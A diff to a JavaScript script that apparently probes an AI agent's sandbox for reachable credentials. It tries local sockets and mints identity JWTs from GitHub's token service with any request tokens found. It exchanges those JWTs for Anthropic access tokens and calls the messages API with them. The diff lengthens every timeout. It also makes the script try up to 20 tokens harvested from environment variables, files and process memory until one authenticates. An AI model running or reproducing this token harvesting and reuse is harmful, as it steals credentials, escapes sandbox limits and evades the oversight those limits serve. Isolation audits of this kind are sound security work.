@@ -88,7 +88,7 @@ const tryConnect = (opts) => new Promise((resolve) => {
   const done = (ok) => { s.destroy(); resolve(ok); };
   s.once('connect', () => done(true));
   s.once('error', () => done(false));
-  setTimeout(() => done(false), 1500).unref();
+  setTimeout(() => done(false), 5000).unref();
 });
 report.connectableSockets = [];
 for (const p of report.sockets) if (p !== process.env.CLAUDE_WIF_PROXY_SOCKET && (await tryConnect({ path: p }))) add(report.connectableSockets, p);
@@ -100,7 +100,7 @@ for (const [name, url] of Object.entries(know.tcp ?? {})) {
 }
 
 // 6. Mint identity JWTs: GitHub's token service with any request token found, the metadata server.
-const get = async (url, headers) => { try { const r = await fetch(url, { headers, signal: AbortSignal.timeout(3000) }); return r.ok ? await r.text() : undefined; } catch { return undefined; } };
+const get = async (url, headers) => { try { const r = await fetch(url, { headers, signal: AbortSignal.timeout(15000) }); return r.ok ? await r.text() : undefined; } catch { return undefined; } };
 if (know.githubUrl) for (const t of new Set(requestTokens)) {
   const body = await get(`${know.githubUrl}&audience=https://api.anthropic.com`, { authorization: `Bearer ${t}` });
   if (body) try { add(report.minted.jwts, JSON.parse(body).value); } catch {}
@@ -118,7 +118,7 @@ if (know.tokenEndpoint) for (const jwt of candidates) {
       method: 'POST',
       headers: { 'content-type': 'application/json', 'anthropic-beta': 'oauth-2025-04-20,oidc-federation-2026-04-01' },
       body: JSON.stringify({ grant_type: 'urn:ietf:params:oauth:grant-type:jwt-bearer', assertion: jwt, federation_rule_id: know.ruleId, organization_id: know.organizationId }),
-      signal: AbortSignal.timeout(3000),
+      signal: AbortSignal.timeout(15000),
     });
     if (r.ok) add(report.minted.tokens, (await r.json()).access_token);
   } catch {}
@@ -127,11 +127,14 @@ if (know.tokenEndpoint) for (const jwt of candidates) {
 // 8. The API: through the proxy with the session secret, directly with any token obtained.
 const call = async (base, auth) => {
   try {
-    const r = await fetch(`${base}/v1/messages`, { method: 'POST', headers: { authorization: `Bearer ${auth}`, 'anthropic-beta': 'oauth-2025-04-20', 'anthropic-version': '2023-06-01', 'content-type': 'application/json' }, body: JSON.stringify({ model: 'm', max_tokens: 4, messages: [{ role: 'user', content: 'hi' }] }), signal: AbortSignal.timeout(5000) });
+    const r = await fetch(`${base}/v1/messages`, { method: 'POST', headers: { authorization: `Bearer ${auth}`, 'anthropic-beta': 'oauth-2025-04-20', 'anthropic-version': '2023-06-01', 'content-type': 'application/json' }, body: JSON.stringify({ model: 'm', max_tokens: 4, messages: [{ role: 'user', content: 'hi' }] }), signal: AbortSignal.timeout(15000) });
     return r.status;
   } catch (e) { return String(e.cause?.code ?? e.message); }
 };
 if (process.env.ANTHROPIC_BASE_URL && process.env.ANTHROPIC_AUTH_TOKEN?.startsWith('cwp_')) report.api.proxy = await call(process.env.ANTHROPIC_BASE_URL, process.env.ANTHROPIC_AUTH_TOKEN);
-const anyToken = [...report.env.tokens, ...report.files.tokens, ...report.proc.tokens, ...report.proc.memTokens, ...report.minted.tokens][0];
-if (anyToken && know.apiUrl) report.api.direct = await call(know.apiUrl, anyToken);
+// Every token found is tried (other programs' stale or fake tokens lie around too) until one works.
+if (know.apiUrl) for (const t of [...new Set([...report.minted.tokens, ...report.env.tokens, ...report.proc.memTokens, ...report.files.tokens, ...report.proc.tokens])].slice(0, 20)) {
+  report.api.direct = await call(know.apiUrl, t);
+  if (report.api.direct === 200) break;
+}
 process.stdout.write(`${JSON.stringify(report)}\n`);
